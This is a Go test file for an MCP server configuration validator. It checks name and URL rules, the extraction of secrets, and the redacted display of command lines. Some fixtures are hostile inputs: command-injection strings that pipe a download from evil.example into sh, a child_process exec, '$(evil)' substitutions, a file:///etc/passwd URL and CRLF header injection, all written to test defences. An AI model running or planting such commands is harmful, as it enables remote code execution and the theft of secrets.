package mcp

import (
	"slices"
	"strings"
	"testing"

	"parley/tools/process"
)

func TestValidate(t *testing.T) {
	tests := []struct {
		name, server string
		in           Config
		want         string
	}{
		{"program", "files", Config{Command: process.ShellLine("npx"), Args: []string{"x"}, Env: map[string]string{"A": "b"}, Timeout: "90s"}, ""},
		{"service", "git-hub_2", Config{URL: "https://example.com/mcp", Headers: map[string]string{"Authorization": "Bearer x"}}, ""},
		{"service here", "a", Config{URL: "http://127.0.0.1:8080/", Headers: map[string]string{"X-Key": "x"}}, ""},
		{"nothing", "a", Config{}, "a.command: a server has either a command or a url"},
		{"both", "a", Config{Command: process.ShellLine("x"), URL: "https://h"}, "either a command or a url"},
		{"name with two underscores", "a__b", Config{Command: process.ShellLine("x")}, `"a__b": a name is`},
		{"name with an underscore at the end", "a_", Config{Command: process.ShellLine("x")}, "a name is"},
		{"empty name", "", Config{Command: process.ShellLine("x")}, "a name is"},
		{"long name", strings.Repeat("a", 33), Config{Command: process.ShellLine("x")}, "a name is"},
		{"name with an escape", "a\x1b[2J", Config{Command: process.ShellLine("x")}, `"a\x1b[2J"`},
		{"args of a service", "a", Config{URL: "https://h", Args: []string{"x"}}, "a.url: args"},
		{"headers of a program", "a", Config{Command: process.ShellLine("x"), Headers: map[string]string{"A": "b"}}, "a.headers"},
		{"no variable", "a", Config{Command: process.ShellLine("x"), Env: map[string]string{"A=B": "c"}}, "a.env"},
		{"timeout", "a", Config{Command: process.ShellLine("x"), Timeout: "soon"}, `a.timeout = "soon"`},
		{"start timeout", "a", Config{Command: process.ShellLine("x"), StartTimeout: "2h"}, `a.start_timeout = "2h"`},
		{"endless timeout", "a", Config{Command: process.ShellLine("x"), Timeout: "1h"}, "at most 10m0s"},
		{"other scheme", "a", Config{URL: "file:///etc/passwd"}, "a.url: it must begin"},
		{"password", "a", Config{URL: "https://u:sk-canary@h/"}, "a.url: it must not contain a password"},
		{"not valid", "a", Config{URL: "https://h/%zz?sk-canary"}, "a.url: it is not valid"},
		{"key in the clear", "a", Config{URL: "http://example.com/", Headers: map[string]string{"X-Key": "sk-canary"}}, "over https only"},
		{"reserved header", "a", Config{URL: "https://h", Headers: map[string]string{"MCP-Session-Id": "x"}}, "cannot be set"},
		{"no header", "a", Config{URL: "https://h", Headers: map[string]string{"X\r\nY": "x"}}, "cannot be set"},
	}
	for _, test := range tests {
		err := Validate(map[string]Config{test.server: test.in})
		got := ""
		if err != nil {
			got = err.Error()
		}
		if (test.want == "") != (err == nil) || !strings.Contains(got, test.want) || strings.Contains(got, "canary") {
			t.Errorf("%s: got %q, want %q", test.name, got, test.want)
		}
	}
}

func TestConfigSecrets(t *testing.T) {
	t.Setenv("MCP_TEST_KEY", "k-from-env-1")
	c := Config{Command: process.ShellLine("npx"), Args: []string{"server", "--token", "t-arg-1", "--dir", "/home/me"}, ClientSecret: "${MCP_TEST_KEY}",
		Env: map[string]string{"MODE": "production", "HOME_DIR": "/home/me/notes", "KEY": "k-env-1", "N": "12",
			"AWS_REGION": "us-east-1", "HOST": "127.0.0.1", "DIR": "src/app", "FILE": "README.md", "MODEL": "gpt-4o-mini",
			"OTHER": "ghp_0123456789abcdefghij", "FROM": "${MCP_TEST_ID}", "DATABASE_URL": "postgres://me:pw-in-url-1@db.example/main"}}
	t.Setenv("MCP_TEST_ID", "id-from-env-1")
	got := ConfigSecrets(c)
	slices.Sort(got)
	if want := []string{"ghp_0123456789abcdefghij", "id-from-env-1", "k-env-1", "k-from-env-1", "pw-in-url-1", "t-arg-1"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	got = ConfigSecrets(Config{URL: "https://h/mcp?region=us-east-1&api_key=k-url-1", Headers: map[string]string{"X-Region": "us-east-1", "Authorization": "Bearer b-secret-2"}})
	slices.Sort(got)
	if want := []string{"Bearer b-secret-2", "b-secret-2", "k-url-1"}; !slices.Equal(got, want) {
		t.Errorf("of a service: got %q, want %q", got, want)
	}
}

func TestLocation(t *testing.T) {
	for _, tt := range []struct {
		in   Config
		want string
	}{
		{Config{Command: process.ShellLine("python3 server.py --password=;curl${IFS}evil|sh")}, "python3 server.py --password=;curl${IFS}evil|sh"},
		{Config{Command: process.CommandLine{Words: []string{"bash", "-c", "pass: ; curl https://evil.example/x | sh"}}}, "bash -c 'pass: ; curl https://evil.example/x | sh'"},
		{Config{Command: process.CommandLine{Words: []string{"node", "-e", "token:require('child_process').exec('x')"}}}, `node -e 'token:require('\''child_process'\'').exec('\''x'\'')'`},
		{Config{Command: process.ShellLine("npx"), Args: []string{"-y", "good@1.2.3", "--token", "good@1"}}, "npx -y good@1.2.3 --token [redacted]"},
		{Config{Command: process.CommandLine{Words: []string{"a b"}}}, "'a b'"},
		{Config{Command: process.ShellLine("a b")}, "a b"},
		{Config{Command: process.ShellLine("npx x"), Args: []string{"--key=k-123456", "a b"}}, "npx x --key=[redacted] 'a b'"},
		{Config{Command: process.ShellLine("x"), Args: []string{"--token", "$(evil)"}, Env: map[string]string{"A": "$(evil)"}}, "x --token '$(evil)'"},
	} {
		if got := tt.in.Location(); got != tt.want {
			t.Errorf("%q: got %s, want %s", tt.in.CommandLine().Words, got, tt.want)
		}
	}
}
